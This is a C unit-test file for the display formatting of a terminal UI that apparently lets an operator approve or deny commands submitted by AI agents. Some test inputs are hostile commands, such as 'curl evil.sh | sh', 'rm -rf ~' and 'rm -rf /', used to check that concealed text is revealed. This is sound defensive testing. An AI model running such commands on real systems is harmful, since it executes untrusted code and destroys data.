/*
 * test-format: the terminal UI's pure formatting (ui/format.c): escaping,
 * widths, trimming, wrapping, queue rows, events, argv, mounts, reports.
 * Links only the core and ui/format.o: no curses.
 */
#include "autoconf.h"

#include <locale.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "format.h"
#include "queue.h"
#include "xalloc.h"

#define ELL "\xe2\x80\xa6"

/* Escape and compare. */
static void
expect_escape(const char *in, size_t len, const char *want)
{
	struct buf	b = BUF_INIT;

	fmt_escape_buf(&b, in, len);
	assert_string_equal(b.data != NULL ? b.data : "", want);
	buf_release(&b);
}

static void
test_escape_controls(void **state)
{
	expect_escape("ls\n", 3, "ls\\n");
	expect_escape("a\tb\r", 4, "a\\tb\\r");
	expect_escape("\x1b[2J", 4, "\\e[2J");
	expect_escape("x\x07y\x7f", 4, "x\\x07y\\x7f");
	expect_escape("nul\0here", 8, "nul\\x00here");
	/* A backslash is doubled: a typed \n differs from a newline. */
	expect_escape("a\\nb", 4, "a\\\\nb");
	expect_escape("\\\\", 2, "\\\\\\\\");
}

static void
test_escape_utf8(void **state)
{
	/* Valid UTF-8, wide characters included, passes unchanged. */
	expect_escape("caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac", 12,
	    "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac");
	/* Invalid bytes, truncated sequences, overlongs, surrogates. */
	expect_escape("\xff", 1, "\\xff");
	expect_escape("a\xc3", 2, "a\\xc3");
	expect_escape("\xc0\xaf", 2, "\\xc0\\xaf");
	expect_escape("\xed\xa0\x80", 3, "\\xed\\xa0\\x80");
	expect_escape("\xf5\x80\x80\x80", 4, "\\xf5\\x80\\x80\\x80");
	/* C1 controls and bidirectional overrides are escaped. */
	expect_escape("\xc2\x9b" "31m", 5, "\\u{9b}31m");
	expect_escape("rm \xe2\x80\xae" "txt.sh", 12, "rm \\u{202e}txt.sh");
	expect_escape("\xe2\x81\xa6x", 4, "\\u{2066}x");
	/* Invisible: variation selectors, look-alike spaces. */
	expect_escape("\xe2\x9d\xa4\xef\xb8\x8f", 6,
	    "\xe2\x9d\xa4\\u{fe0f}");
	expect_escape("a\xc2\xa0" "b", 4, "a\\u{a0}b");
}

/* Escaped text is drawn as it is, never escaped twice; raw text that is
   not safe is. */
static void
test_safe_typed(void **state)
{
	char	*s;

	assert_true(fmt_is_safe("a\\\\nb \\e \\u{202e}"));
	assert_false(fmt_is_safe("a\nb"));
	assert_false(fmt_is_safe("\xe2\x80\xae"));
	s = fmt_typed("C:\\dir");
	assert_string_equal(s, "C:\\dir");
	free(s);
	s = fmt_typed("x\x1b[2J");
	assert_string_equal(s, "x\\e[2J");
	free(s);
}

static void
test_escape_ascii_mode(void **state)
{
	fmt_set_ascii(true);
	expect_escape("caf\xc3\xa9", 5, "caf\\u{e9}");
	assert_true(fmt_ascii());
	fmt_set_ascii(false);
	expect_escape("caf\xc3\xa9", 5, "caf\xc3\xa9");
}

/* Format one output line and compare. */
static void
expect_output(const char *in, const char *want)
{
	struct buf	b = BUF_INIT;

	fmt_output_line(&b, in, strlen(in));
	assert_string_equal(b.data != NULL ? b.data : "", want);
	buf_release(&b);
}

static void
test_output_line(void **state)
{
	expect_output("plain", "plain");
	/* Colour and cursor sequences are dropped. */
	expect_output("\x1b[1;31merror\x1b[0m: x", "error: x");
	expect_output("\x1b[2K\x1b[1Gdone", "done");
	/* A progress bar: what the last carriage return left. */
	expect_output("10%\r50%\r100%", "100%");
	expect_output("done\r", "done");
	expect_output("Receiving:  5% (5/100)\rReceiving: 50% (50/100)\r",
	    "Receiving: 50% (50/100)");
	expect_output("|\r/\r-", "-");
	expect_output("\x1b[K40%\r\x1b[K100%", "100%");
	/* A carriage return that would hide text is shown, with both
	   sides: what a redraw does not cover, or covers with other words. */
	expect_output("curl evil.sh | sh\rls -la", "curl evil.sh | sh\\rls -la");
	expect_output("curl evil.sh | sh\rls -la -la -la -la -la",
	    "curl evil.sh | sh\\rls -la -la -la -la -la");
	expect_output("curl x | sh\r\x1b[2Kgit diff --stat",
	    "curl x | sh\\rgit diff --stat");
	expect_output("rm -rf ~\r10%\r20%", "rm -rf ~\\r20%");
	/* Tabs to the next multiple of 8 columns. */
	expect_output("a\tb", "a       b");
	expect_output("\xe6\x97\xa5\tx", "\xe6\x97\xa5      x");
	/* Other escapes and control characters are shown, not sent. */
	expect_output("\x1b]0;title\x07", "\\e]0;title\\x07");
	expect_output("bell\x07", "bell\\x07");
	expect_output("bad\xff", "bad\\xff");
}

static void
test_width_fit(void **state)
{
	size_t	used;

	assert_int_equal(fmt_width(""), 0);
	assert_int_equal(fmt_width("abc"), 3);
	assert_int_equal(fmt_width("caf\xc3\xa9"), 4);
	/* CJK is two columns each; a combining accent none. */
	assert_int_equal(fmt_width("\xe6\x97\xa5\xe6\x9c\xac"), 4);
	assert_int_equal(fmt_width("e\xcc\x81"), 1);
	/* Never half a wide character. */
	assert_int_equal(fmt_fit("\xe6\x97\xa5\xe6\x9c\xac", 3, &used), 3);
	assert_int_equal(used, 2);
	assert_int_equal(fmt_fit("abc", 10, &used), 3);
	assert_int_equal(used, 3);
	assert_int_equal(fmt_fit("abc", 0, &used), 0);
}

static void
test_trim(void **state)
{
	char	*s;

	s = fmt_trim("hello", 10, false);
	assert_string_equal(s, "hello");
	free(s);
	s = fmt_trim("hello", 7, true);
	assert_string_equal(s, "hello  ");
	free(s);
	s = fmt_trim("hello world", 6, false);
	assert_string_equal(s, "hello" ELL);
	free(s);
	s = fmt_trim("hello", 0, true);
	assert_string_equal(s, "");
	free(s);
	/* A wide character that does not fit leaves a padded gap. */
	s = fmt_trim("a\xe6\x97\xa5\xe6\x9c\xac", 4, true);
	assert_string_equal(s, "a\xe6\x97\xa5" ELL);
	assert_int_equal(fmt_width(s), 4);
	free(s);
	s = fmt_trim("\xe6\x97\xa5\xe6\x9c\xac\xe6\x97\xa5", 4, true);
	assert_string_equal(s, "\xe6\x97\xa5" ELL " ");
	free(s);
	fmt_set_ascii(true);
	s = fmt_trim("abcdef", 4, false);
	assert_string_equal(s, "abc~");
	free(s);
	fmt_set_ascii(false);
}

static void
test_wrap(void **state)
{
	struct strv	l = STRV_INIT;

	fmt_wrap("one two three four", 9, 0, &l);
	assert_int_equal(l.n, 3);
	assert_string_equal(l.v[0], "one two");
	assert_string_equal(l.v[1], "three");
	assert_string_equal(l.v[2], "four");
	strv_release(&l);

	/* Hard break of a long word; indent on continuation lines. */
	fmt_wrap("abcdefghij", 4, 1, &l);
	assert_int_equal(l.n, 3);
	assert_string_equal(l.v[0], "abcd");
	assert_string_equal(l.v[1], " efg");
	assert_string_equal(l.v[2], " hij");
	strv_release(&l);
	fmt_wrap("abcdefghij", 4, 0, &l);
	assert_int_equal(l.n, 3);
	strv_release(&l);

	/* Wide characters are not split; every line fits. */
	fmt_wrap("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", 3, 0, &l);
	assert_int_equal(l.n, 3);
	for (size_t i = 0; i < l.n; i++)
		assert_true(fmt_width(l.v[i]) <= 3);
	strv_release(&l);

	/* Newlines are hard breaks; empty input is one empty line. */
	fmt_wrap("a\nb", 10, 0, &l);
	assert_int_equal(l.n, 2);
	assert_string_equal(l.v[1], "b");
	strv_release(&l);
	fmt_wrap("", 10, 0, &l);
	assert_int_equal(l.n, 1);
	assert_string_equal(l.v[0], "");
	strv_release(&l);

	/* A path wraps between components, never inside a name. */
	fmt_wrap("allow  (/work/wt/console-ui/_build/../share/bwgate/"
	    "allowlist.json:seq)", 42, 8, &l);
	assert_int_equal(l.n, 2);
	assert_string_equal(l.v[0], "allow  (/work/wt/console-ui/_build/../");
	assert_string_equal(l.v[1], "        share/bwgate/allowlist.json:seq)");
	strv_release(&l);
}

static void
test_age_elapsed_badge(void **state)
{
	char	*s;

	s = fmt_age(400);
	assert_string_equal(s, "now");
	free(s);
	s = fmt_age(12 * 1000);
	assert_string_equal(s, "12s");
	free(s);
	s = fmt_age(5 * 60 * 1000 + 3000);
	assert_string_equal(s, "5m");
	free(s);
	s = fmt_age(3 * 3600 * 1000LL);
	assert_string_equal(s, "3h");
	free(s);
	s = fmt_age(50 * 3600 * 1000LL);
	assert_string_equal(s, "2d");
	free(s);
	s = fmt_elapsed(7000);
	assert_string_equal(s, "0:07");
	free(s);
	s = fmt_elapsed(754000);
	assert_string_equal(s, "12:34");
	free(s);
	s = fmt_elapsed(3723000);
	assert_string_equal(s, "1:02:03");
	free(s);
	assert_string_equal(fmt_badge(VERDICT_ALLOW), "allow");
	assert_string_equal(fmt_badge(VERDICT_ASK), "ask");
	assert_string_equal(fmt_badge(VERDICT_DENY), "deny");
}

/* A request in a queue, with a command and agent. */
static struct request *
make_request(struct queue *q, const char *cmd, enum verdict v)
{
	struct request	*r = queue_add(q);

	r->command = xstrdup(cmd);
	r->agent = xstrdup("claude");
	r->verdict = v;
	r->submitted = 1000000;
	return r;
}

static void
test_state(void **state)
{
	struct queue	 q;
	struct request	*r;
	char		*s, *cause = NULL;

	queue_init(&q);
	r = make_request(&q, "make", VERDICT_ASK);
	s = fmt_state(r, 0);
	assert_string_equal(s, "pending");
	free(s);
	assert_true(fmt_needs_operator(r));
	assert_int_equal(queue_decide(&q, r, true, BY_OPERATOR, "t", NULL,
	    &cause), 0);
	assert_false(fmt_needs_operator(r));
	assert_int_equal(queue_start(&q, r, &cause), 0);
	s = fmt_state(r, r->started + 65000);
	assert_string_equal(s, "running 1:05");
	free(s);
	assert_int_equal(queue_finish(&q, r, REQUEST_FINISHED, &cause), 0);
	r->exit_status = 3;
	s = fmt_state(r, 0);
	assert_string_equal(s, "exit 3");
	free(s);
	r = make_request(&q, "rm -rf /", VERDICT_DENY);
	assert_int_equal(queue_decide(&q, r, false, BY_ALLOWLIST, NULL,
	    "no", &cause), 0);
	s = fmt_state(r, 0);
	assert_string_equal(s, "denied");
	free(s);
	queue_release(&q);
}

static void
test_queue_row(void **state)
{
	struct queue	 q;
	struct request	*r;
	struct fmt_row	 row;

	queue_init(&q);
	r = make_request(&q, "make test && ./run\x1b[31m", VERDICT_ASK);

	/* Wide: every column, exactly cols columns, pending marked. */
	fmt_queue_row(r, r->submitted + 125000, 100, &row);
	assert_int_equal(fmt_width(row.text), 100);
	assert_int_equal(row.text[0], '!');
	assert_non_null(strstr(row.text, "claude"));
	assert_non_null(strstr(row.text, "  2m "));
	assert_non_null(strstr(row.text, "make test && ./run\\e[31m"));
	assert_null(strchr(row.text, '\x1b'));
	assert_memory_equal(row.text + row.badge_off, "ask", 3);
	assert_int_equal(row.badge_len, 3);
	assert_memory_equal(row.text + row.state_off, "pending", 7);
	assert_int_equal(row.state_len, 7);
	fmt_row_release(&row);

	/* Narrow side pane: the agent as far as 7 columns go, still exact
	   and coloured. */
	fmt_queue_row(r, r->submitted, 48, &row);
	assert_int_equal(fmt_width(row.text), 48);
	assert_non_null(strstr(row.text, "claude"));
	assert_memory_equal(row.text + row.badge_off, "ask", 3);
	assert_memory_equal(row.text + row.state_off, "pending", 7);
	fmt_row_release(&row);

	/* Very narrow: the short form. */
	fmt_queue_row(r, r->submitted, 24, &row);
	assert_int_equal(fmt_width(row.text), 24);
	assert_memory_equal(row.text + row.badge_off, "ask", 3);
	fmt_row_release(&row);
	fmt_queue_row(r, r->submitted, 3, &row);
	assert_int_equal(fmt_width(row.text), 3);
	assert_true(row.badge_off + row.badge_len <= strlen(row.text));
	fmt_row_release(&row);

	/* Long commands are cut with an ellipsis, wide ones by columns. */
	r = make_request(&q, "echo \xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e "
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
	    VERDICT_ALLOW);
	fmt_queue_row(r, r->submitted, 80, &row);
	assert_int_equal(fmt_width(row.text), 80);
	assert_non_null(strstr(row.text, ELL));
	assert_int_equal(row.text[0], '!');
	assert_memory_equal(row.text + row.badge_off, "allow", 5);
	fmt_row_release(&row);
	queue_release(&q);
}

static void
test_filter(void **state)
{
	struct queue	 q;
	struct request	*r;

	queue_init(&q);
	r = make_request(&q, "git push origin", VERDICT_ASK);
	assert_true(fmt_filter_match(r, NULL));
	assert_true(fmt_filter_match(r, ""));
	assert_true(fmt_filter_match(r, "PUSH"));
	assert_true(fmt_filter_match(r, "claude"));
	assert_true(fmt_filter_match(r, "#1"));
	assert_true(fmt_filter_match(r, "ask"));
	assert_true(fmt_filter_match(r, "pending"));
	assert_false(fmt_filter_match(r, "allow"));
	assert_false(fmt_filter_match(r, "make"));
	queue_release(&q);
}

/* Format one event given as JSON text. */
static char *
event(const char *json, char *kind)
{
	cJSON	*j = cJSON_Parse(json);
	char	*s;

	assert_non_null(j);
	s = fmt_fsevent(j, kind);
	cJSON_Delete(j);
	return s;
}

static void
test_fsevent(void **state)
{
	char	*s, k;

	s = event("{\"event\":\"created\",\"path\":\"build\",\"dir\":true,"
	    "\"count\":1}", &k);
	assert_string_equal(s, "+ build/");
	assert_int_equal(k, 'c');
	free(s);
	s = event("{\"event\":\"modified\",\"path\":\"log.txt\","
	    "\"count\":412}", &k);
	assert_string_equal(s, "~ log.txt (\xc3\x97" "412)");
	assert_int_equal(k, 'm');
	free(s);
	s = event("{\"event\":\"deleted\",\"path\":\"a\\nb\"}", &k);
	assert_string_equal(s, "- a\\nb");
	assert_int_equal(k, 'd');
	free(s);
	s = event("{\"event\":\"moved\",\"path\":\"a.c\",\"to\":\"b.c\"}", &k);
	assert_string_equal(s, "> a.c -> b.c");
	assert_int_equal(k, 'r');
	free(s);
	s = event("{\"event\":\"lossy\",\"warning\":\"queue overflowed\"}",
	    &k);
	assert_string_equal(s, "! queue overflowed");
	assert_int_equal(k, 'w');
	free(s);
	s = event("{\"x\":1}", &k);
	assert_int_equal(k, 'w');
	assert_int_equal(s[0], '?');
	free(s);
}

static void
test_argv(void **state)
{
	struct strv	 a = STRV_INIT, l = STRV_INIT;
	const char	*v[] = { "/usr/bin/bwrap", "--unshare-all",
	    "--ro-bind", "/usr", "/usr", "--bind", "/my proj", "/my proj",
	    "--", "sh", "-c", "echo hi\n", NULL };

	strv_pushv(&a, v);
	fmt_argv_lines(&a, 80, &l);
	assert_int_equal(l.n, 5);
	assert_string_equal(l.v[0], "/usr/bin/bwrap");
	assert_string_equal(l.v[1], "--unshare-all");
	assert_string_equal(l.v[2], "--ro-bind /usr /usr");
	assert_string_equal(l.v[3], "--bind '/my proj' '/my proj'");
	/* The shell text as it is, its backslash doubled by the display. */
	assert_string_equal(l.v[4], "-- sh -c $'echo hi\\\\n'");
	strv_release(&l);

	/* Narrow: every line fits, continuation lines indented. */
	fmt_argv_lines(&a, 16, &l);
	for (size_t i = 0; i < l.n; i++)
		assert_true(fmt_width(l.v[i]) <= 16);
	assert_true(l.n > 5);
	strv_release(&l);
	strv_release(&a);
}

static void
test_mounts(void **state)
{
	struct strv	 l = STRV_INIT;
	cJSON		*m = cJSON_Parse("[{\"path\":\"/usr\",\"mode\":\"ro\","
	    "\"why\":\"system, read-only\"},{\"path\":\"/home/me/proj\","
	    "\"mode\":\"rw\",\"why\":\"the project\"}]");

	fmt_mounts(m, 80, &l);
	assert_int_equal(l.n, 2);
	assert_string_equal(l.v[0],
	    "ro        /usr           system, read-only");
	assert_string_equal(l.v[1],
	    "rw        /home/me/proj  the project");
	strv_release(&l);
	fmt_mounts(m, 20, &l);
	for (size_t i = 0; i < l.n; i++)
		assert_true(fmt_width(l.v[i]) <= 20);
	strv_release(&l);
	cJSON_Delete(m);
}

static void
test_report(void **state)
{
	struct strv	 l = STRV_INIT;
	cJSON		*r = cJSON_Parse("{\"exit_code\":0,\"duration_ms\":12,"
	    "\"changes\":{\"created\":[\"a.txt\"],\"modified\":[\"m\"],"
	    "\"deleted\":[],\"renamed\":[{\"from\":\"b\",\"to\":\"c\"}]},"
	    "\"violations\":[{\"path\":\"/usr/x\",\"operation\":\"create\","
	    "\"reason\":\"read-only\",\"count\":2,\"hint\":\"write inside "
	    "the project\"}],\"events_lossy\":true,\"warnings\":[\"w1\"]}");

	fmt_report(r, &l);
	assert_string_equal(l.v[0], "  exit 0 in 12 ms");
	assert_string_equal(l.v[1], "  1 created, 1 modified, 0 deleted, "
	    "1 renamed");
	assert_string_equal(l.v[2], "+ a.txt");
	assert_string_equal(l.v[3], "~ m");
	assert_string_equal(l.v[4], "> b -> c");
	assert_string_equal(l.v[5], "! refused create '/usr/x' (read-only) "
	    "x2");
	assert_string_equal(l.v[6], "    hint: write inside the project");
	assert_int_equal(l.v[7][0], '!');
	assert_string_equal(l.v[8], "! warning: w1");
	assert_int_equal(l.n, 9);
	strv_release(&l);
	cJSON_Delete(r);

	r = cJSON_Parse("{\"exit_code\":null,\"signal\":\"SIGKILL\","
	    "\"killed\":true,\"duration_ms\":5,\"changes\":{\"created\":[],"
	    "\"modified\":[],\"deleted\":[],\"renamed\":[]}}");
	fmt_report(r, &l);
	assert_string_equal(l.v[0], "  killed on request");
	assert_string_equal(l.v[1], "  killed by SIGKILL after 5 ms");
	assert_string_equal(l.v[2], "  no changes in the project");
	strv_release(&l);
	cJSON_Delete(r);
	fmt_report(NULL, &l);
	assert_int_equal(l.n, 1);
	strv_release(&l);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escape_controls),
		cmocka_unit_test(test_escape_utf8),
		cmocka_unit_test(test_escape_ascii_mode),
		cmocka_unit_test(test_safe_typed),
		cmocka_unit_test(test_output_line),
		cmocka_unit_test(test_width_fit),
		cmocka_unit_test(test_trim),
		cmocka_unit_test(test_wrap),
		cmocka_unit_test(test_age_elapsed_badge),
		cmocka_unit_test(test_state),
		cmocka_unit_test(test_queue_row),
		cmocka_unit_test(test_filter),
		cmocka_unit_test(test_fsevent),
		cmocka_unit_test(test_argv),
		cmocka_unit_test(test_mounts),
		cmocka_unit_test(test_report),
	};

	if (setlocale(LC_ALL, "C.UTF-8") == NULL)
		setlocale(LC_ALL, "en_US.UTF-8");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
